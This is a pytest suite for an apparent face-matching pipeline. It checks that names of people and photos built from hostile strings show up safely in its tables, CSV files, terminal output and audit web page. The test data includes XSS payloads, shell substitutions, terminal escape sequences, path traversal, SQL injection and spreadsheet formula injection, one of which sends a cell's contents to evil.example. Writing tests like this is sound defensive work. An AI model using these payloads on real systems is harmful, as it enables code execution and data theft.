"""Names that mean harm, as people's and as photos' names: tables keep them, and nothing that shows them obeys them."""

import csv
import dataclasses
import io
import json
import logging
import os
import pathlib
import re
import unicodedata

import fakes
import numpy as np
import pyarrow.parquet as pq
import pytest
from elements import Elements
from rich.cells import cell_len
from rich.console import Console

from celebface.indexing import schemas
from celebface.indexing.gallery import Gallery
from celebface.models.faces import FaceCrop, PhotoFaces
from celebface.pipelines import audit_page, cli, match_results, summary
from celebface.pipelines import text as texts
from celebface.transforms import match, shard, stage, staged
from celebface.transforms.match import Kept
from celebface.transforms.records import DetectedPhoto, EmbeddedPhoto, Outcome, Person, printable

SHARDS = 2

# What each is, and the name. A file name is its first 200 bytes, and cannot hold some of them.
NAMES = {
    # markup and scripts
    "script": "<script>alert(1)</script>",
    "end of style": "</style><script>alert(1)</script>",
    "event handler": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "javascript": "javascript:alert(1)",
    "data url": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;b&gt; &#x3c;script&#62; &amp;",
    "formula behind a quote": 'a;"=1+1;b',
    "svg": "<svg/onload=alert(1)>",
    "comment": "--><!-- a comment -->",
    "cdata": "]]><![CDATA[<x>]]>",
    "template of jinja": "{{ 7 * 7 }}{% raw %}",
    "template of a shell": "$(reboot) `reboot` ${HOME} %PATH%",
    # what steers terminals
    "colour": "\x1b[31mred\x1b[0m",
    "window title": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear screen": "\x1b[2J\x1b[H\x1bc",
    "C1 controls": "\x9b31mred \x90q\x9c \x85next",
    "backspaces": "good\b\b\b\bevil\x7f",
    "carriage return": "good name\rbad",
    "newlines": "one\ntwo\r\nthree\x0b\x0cfour",
    "tabs": "a\tb\t\tc",
    "NUL": "before\x00after",
    "bell": "\x07\x07ding",
    # what is not what it looks like
    "right to left": "exe.\u202egpj",
    "isolates": "\u2066\u2067a\u2068b\u2069\u200e\u200f",
    "zero width": "Ma\u200bdon\u200dna\u2060\u00ad",
    "byte order mark": "\ufeffMadonna",
    "combining flood": "Z" + "\u0335\u0321\u0489" * 40 + "algo",
    "homoglyphs": "M\u0430d\u043enn\u0430",
    "tags": "a\U000e0041\U000e0042b",
    "separators": "a\u2028b\u2029c",
    "no character": "a\ufffe\uffffb\U0010ffff",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f",
    "wide": "\u6885\u8273\u82b3\uff01\u3000\u5f20",
    # formulas
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link of a spreadsheet": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula behind spaces": " \u00a0=1+1",
    "formula in wide characters": "\uff1d1+1",
    "formula in small characters": "\ufe661+1",
    "formula behind a semicolon": "a;=1+1;b",
    "formula behind quotes and a comma": 'a",=1+1,"b',
    "formula behind a mark": "\ufeff=1+1",
    # what programs read into names
    "quotes and separators": "\"a\",'b';c,d|e",
    "options": "--output=/etc",
    "places": "../../etc/passwd",
    "dots": "..",
    "printf": "%s%n%x %(name)s {0} {name!r} {}",
    "markup of rich": "[red]red[/red] [link=https://evil.example]x[/link]",
    "closing markup of rich": "[/] [/bold] \\[",
    "emoji of rich": ":smiley: :boom:",
    "reserved in Windows": "CON",
    "patterns": "*?[a-z]{1,2}~",
    "backslashes": "\\x1b\\n\\u202e C:\\a\\",
    "long": "A very long name " * 300,
    "long without a space": "x" * 5000,
    "SQL": "Robert'); DROP TABLE faces;--",
}
EVIL = pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)

STEERS = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
FORMULA = re.compile(r"\s*[-=+@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\t\r\n]")


def people() -> list[Person]:
    """A person of each name; names that are the same once they are normal are one."""
    return list({person.identity_id: person for person in map(Person.of, NAMES.values())}.values())


def check_shown(text: str, newlines: int | None = None) -> None:
    """Text that is shown holds nothing that steers but newlines, and of them as many as are told."""
    assert not STEERS.search(text), STEERS.search(text)
    assert not [character for character in text if unicodedata.category(character) in ("Cf", "Cs")]
    if newlines is not None:
        assert text.count("\n") == newlines


# --- a name by itself -------------------------------------------------------------------------------------------------


def test_there_are_enough_of_them():
    assert len(NAMES) == len(set(NAMES.values())) >= 40


@EVIL
def test_a_name_is_one_line_that_steers_nothing(name):
    check_shown(texts.plain(name), newlines=0)
    check_shown(texts.escaped(name), newlines=0)


@EVIL
def test_a_name_is_one_cell_and_no_formula(name):
    cell = texts.cell(name)
    check_shown(cell, newlines=0)
    assert not any(FORMULA.match(piece) for piece in cell.split(";"))
    assert cell.replace("'", "") == texts.escaped(name).replace("'", "")  # nothing is lost


def test_names_that_do_no_harm_are_cells_as_they_are():
    for name in ("Penélope Cruz", "Jean-Luc", "a+b=c@d.org", "O'Hara", "梅艳芳", "a; b", "C:\\photos", "\\x1b"):
        assert texts.cell(name) == name


@EVIL
def test_a_complaint_is_one_line(name, capsys):
    assert cli.main(["match", "a.jpg", f"--gallery={name.replace(chr(0), '')}/nowhere"]) == 2
    check_shown(capsys.readouterr().err, newlines=1)


@EVIL
def test_an_unknown_command_is_one_line(name, capsys):
    assert cli.main([f"x{name}"]) == 2
    check_shown(capsys.readouterr().err, newlines=1)


# --- results of names that no file system would take ------------------------------------------------------------------


def photo(number: int, uri: str, vector: np.ndarray) -> EmbeddedPhoto:
    ref = fakes.item(uri, content_sha256=f"{number:064x}")
    pixels = np.full((160, 160, 3), number, np.uint8)
    face = FaceCrop(np.array([1, 2, 3, 4], np.int32), 0.5, np.zeros((5, 2), np.float32), 8.0, pixels)
    return EmbeddedPhoto(DetectedPhoto(ref, PhotoFaces(640, 480, (face,), 1, b"\xff\xd8 a thumbnail")), vector[None])


@dataclasses.dataclass(frozen=True)
class Results:
    """The results of photos with hostile names that show people with hostile names.

    Attributes:
      folder: Where they are.
      gallery: What the photos were held against.
      outcomes: What they were made of.
    """

    folder: pathlib.Path
    gallery: Gallery
    outcomes: list[Outcome]

    def rows(self, table: str) -> list[dict]:
        return [row for path in sorted(self.folder.glob(f"{table}-*")) for row in pq.read_table(path).to_pylist()]


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> Results:
    """A photo of each name under each of two folders, one face in each, like the person of that name."""
    folder, everybody = tmp_path_factory.mktemp("hostile"), people()
    vectors = fakes.unit_vectors(len(everybody), 32)
    gallery = Gallery.open(fakes.gallery(str(folder), vectors, everybody))
    photos = [
        photo(number, f"/photos/{who.name}/{name}.jpg", vectors[number])
        for number, (who, name) in enumerate(zip(everybody, NAMES.values(), strict=False))
    ]
    outcomes = match.match(photos, gallery, 3, 1.0, Kept(embeddings=True))
    layout = shard.ShardLayout(
        str(folder / "assembled"), schemas.MATCH_TABLE, schemas.MATCHES, SHARDS, beside=schemas.BESIDE_MATCHES
    )
    places = stage.write_part(outcomes, str(folder / "parts"), layout.rows, SHARDS, layout.beside)
    for number in range(SHARDS):
        shard.write_by_slices(staged.in_order(place for wanted, place in places if wanted == number), number, layout)
    output = folder / "out"
    match_results.hand_over(layout.folder, str(output), {}, ledger_only=False, by_person=True)
    return Results(output, gallery, outcomes)


def test_tables_hold_the_names_as_they_are(results):
    expected = {outcome.ref.uri for outcome in results.outcomes}
    names = {who.identity_id: who.name for who in people()}
    assert len(expected) == len(names)
    for table, column in (("matches", "photo_uri"), ("photos", "photo_uri"), ("faces", "photo_uri"), ("ledger", "uri")):
        assert {row[column] for row in results.rows(table)} == expected
    assert {row["identity_id"]: row["identity"] for row in results.rows("matches") if row["rank"] == 1} == names
    by_person = pq.read_table(results.folder / "by_person.parquet").to_pylist()
    assert [(row["identity_id"], row["identity"]) for row in by_person] == sorted(names.items())


def cells(line: str, separators: str) -> list[str]:
    """A line cut as spreadsheets cut it: at any of several separators outside quotes, which open a cell or none."""
    found, place = [], 0
    while place <= len(line):
        match_ = re.compile(rf'"((?:[^"]|"")*)"[^{separators}]*|([^{separators}]*)').match(line, place)
        quoted, bare = match_.groups()
        found.append(bare if quoted is None else quoted.replace('""', '"'))
        place = match_.end() + 1
    return found


@pytest.mark.parametrize("separators", [",", ",;\t", ";", "\t"])
def test_a_spreadsheet_finds_no_formula(results, separators):
    """Excel cuts at the separator of its country alone, LibreOffice by default at commas, semicolons and tabs."""
    lines = (results.folder / "matches.csv").read_text(encoding="utf-8").split("\n")
    assert lines.pop() == ""
    for line in lines:
        check_shown(line)
        found = cells(line, separators)
        assert not [cell for cell in found if FORMULA.match(cell)]
        if "," in separators:
            assert len(found) == len(cells(lines[0], separators)) == 16


def test_the_csv_has_a_row_for_each_match_and_loses_nothing(results):
    with (results.folder / "matches.csv").open(newline="", encoding="utf-8") as file:
        found = list(csv.DictReader(file))
    table = sorted(results.rows("matches"), key=lambda row: row["photo_uri"])
    assert len(found) == len(table) == 3 * len(results.outcomes)
    for line, row in zip(found, table, strict=True):
        assert None not in line and None not in line.values()
        assert (line["photo_uri"], line["identity"]) == (texts.cell(row["photo_uri"]), texts.cell(row["identity"]))
        assert (int(line["rank"]), line["gallery_face_id"]) == (row["rank"], row["gallery_face_id"])


SGR = re.compile(r"\x1b\[[0-9;]*m")  # what rich itself puts around bold headings


@pytest.mark.parametrize("width", [60, 80, 200])
def test_a_terminal_shows_a_line_for_each_face(results, width):
    out = Console(file=io.StringIO(), force_terminal=True, width=width, highlight=False, emoji=False, soft_wrap=True)
    match_results.print_matches(out, str(results.folder), results.gallery.identities, "tau 1")
    shown = SGR.sub("", out.file.getvalue())
    check_shown(shown)
    lines = shown.splitlines()
    assert lines[0].split()[:3] == ["photo", "looks", "like"]
    faces = min(len(results.outcomes), match_results._SHOWN)
    assert [line.split()[-1] for line in lines[1 : faces + 1]] == ["match"] * faces
    assert len({cell_len(line) for line in lines[: faces + 1]}) == 1  # the columns stand below each other


def test_a_list_of_people_has_a_line_for_each():
    names = [who.name for who in people()]
    for start in range(0, len(names), summary._SHOWN):
        some = names[start : start + summary._SHOWN]
        out = Console(file=io.StringIO(), width=200, highlight=False, emoji=False, soft_wrap=True)
        out.print(summary.people_table(dict.fromkeys(some, 7)))
        shown = out.file.getvalue()
        check_shown(shown, newlines=1 + len(some))
        assert [line.split()[-1] for line in shown.splitlines()[1:]] == ["7"] * len(some)


# --- the commands, with files of such names ---------------------------------------------------------------------------


def file_name(name: str) -> bytes:
    """The name as one of a file, as far as a file system takes it; none is hidden, for those are passed over."""
    return name.replace("/", "\u2215").replace("\x00", "")[:180].encode()[:200].decode(errors="ignore").encode()


NO_UTF8 = {b"caf\xe9", b"\xff\xfe\xc0\xaf", b"\xed\xa0\x80"}
FILES = sorted({file_name(name) for name in NAMES.values() if not name.startswith(".")} | NO_UTF8)
PAGE = {"html", "head", "meta", "title", "style", "body", "main", "section", "article"} | {
    "h1", "h2", "p", "ul", "li", "div", "span", "a", "code", "img"
}  # fmt: skip


@dataclasses.dataclass(frozen=True)
class Ran:
    """What two commands left: a gallery of people with hostile names, and matches of photos with such.

    Attributes:
      version: Folder of the gallery's version.
      output: Folder of the matches.
      photos: Folder of the photos.
      shown: What was written to stdout and stderr.
      logged: What was logged, from INFO on.
    """

    version: pathlib.Path
    output: pathlib.Path
    photos: pathlib.Path
    shown: str
    logged: str


@pytest.fixture(scope="module")
def ran(cache, sample, probes, tmp_path_factory) -> Ran:
    """Builds and matches: people by folders where a file system takes their names, all others by a list."""
    root = tmp_path_factory.mktemp("hostile")
    faces = [path.read_bytes() for path in sorted(sample.glob("*/*.jpg"))]
    (root / "people").mkdir()
    for number, name in enumerate(FILES):
        folder = os.fsencode(root / "people") + b"/" + name
        os.mkdir(folder)
        with open(folder + b"/" + name + b".jpg", "wb") as file:
            file.write(faces[number])
    (root / "one.jpg").write_bytes(faces[-1])
    with (root / "list.jsonl").open("w", encoding="utf-8") as file:
        file.writelines(json.dumps({"name": name, "url": "one.jpg"}) + "\n" for name in NAMES.values())
    photos = root / "photos"
    photos.mkdir()
    known = [path.read_bytes() for path in sorted(probes.glob("*/*.jpg"))]
    for number, name in enumerate(FILES):
        with open(os.fsencode(photos) + b"/" + name + b".jpg", "wb") as file:
            file.write(b"no photo" if number % 8 == 7 else known[number % len(known)])
    with (root / "places.jsonl").open("w", encoding="utf-8") as file:
        file.writelines(json.dumps({"url": f"photos/{name}"}) + "\n" for name in NAMES.values())

    written = io.StringIO()
    logged = io.StringIO()
    handler = logging.StreamHandler(logged)
    handler.setLevel(logging.INFO)
    logging.getLogger().addHandler(handler)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", written)
        patch.setattr("sys.stderr", written)
        build = ["build-gallery", f"--source={root / 'people'}", f"--source={root / 'list.jsonl'}"]
        assert cli.main([*build, f"--output_root={root}", "--name=hostile"]) == 0
        asked = ["match", str(photos), str(root / "places.jsonl"), f"--gallery={root / 'hostile'}", "--by_person"]
        assert cli.main([*asked, f"--output={root / 'out'}"]) == 0
    logging.getLogger().removeHandler(handler)
    (version,) = (root / "hostile").glob("2*")
    return Ran(version, root / "out", photos, written.getvalue(), logged.getvalue())


def rows(folder: pathlib.Path, table: str) -> list[dict]:
    return [row for path in sorted(folder.glob(f"{table}-*.parquet")) for row in pq.read_table(path).to_pylist()]


def test_every_file_has_its_ledger_row_under_its_own_name(ran):
    ledger = rows(ran.output, "ledger")
    expected = {printable(os.fsdecode(os.fsencode(ran.photos) + b"/" + name + b".jpg")) for name in FILES}
    assert expected <= {row["uri"] for row in ledger}
    found = {row["uri"]: row["status"] for row in ledger if row["uri"] in expected}
    assert sorted(found.values()).count("rejected") == len(FILES) // 8
    photos = {row["photo_uri"] for row in rows(ran.output, "photos")}
    assert photos == {uri for uri, status in found.items() if status == "done"}


def test_every_person_is_in_the_gallery_under_their_own_name(ran):
    names = {row["identity"] for row in rows(ran.version, "faces")}
    assert {who.name for who in people()} == names & {who.name for who in people()}
    assert {"caf\\xe9", "\\xff\\xfe\\xc0\\xaf"} <= names


def test_the_commands_say_nothing_that_steers(ran):
    check_shown(ran.shown)
    check_shown(ran.logged)
    assert "alert(1)" in ran.shown


def test_the_csv_of_the_command(ran):
    with (ran.output / "matches.csv").open(newline="", encoding="utf-8") as file:
        found = list(csv.DictReader(file))
    assert len(found) == len(rows(ran.output, "matches")) > 0
    for line in found:
        assert None not in line
        assert not [cell for cell in line.values() if FORMULA.match(cell)]
    check_shown((ran.output / "matches.csv").read_text(encoding="utf-8"))


def test_the_list_by_person(ran):
    listed = pq.read_table(ran.output / "by_person.parquet").to_pylist()
    first = [row for row in rows(ran.output, "matches") if row["rank"] == 1]
    first.sort(key=lambda row: (row["identity_id"], row["distance"], row["photo_uri"], row["face_id"]))
    assert listed == [{name: row[name] for name in schemas.BY_PERSON.names} for row in first]


def test_the_page_of_the_audit_shows_and_does_nothing(ran):
    page = (ran.version / audit_page.NAME).read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)
    elements = Elements(page)
    assert {tag for tag, _ in elements.tags} <= PAGE
    for tag, attributes in elements.tags:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], tag
        assert attributes.get("src", "data:image/jpeg;base64,").startswith("data:image/jpeg;base64,")
        assert attributes.get("href", "#").startswith("#")
    assert "<script>alert(1)</script>" in "".join(elements.words)


def test_the_settings_are_plain_ascii(ran):
    for folder in (ran.output, ran.version):
        assert (folder / "run.json").read_bytes().isascii()
        json.loads((folder / "run.json").read_text())
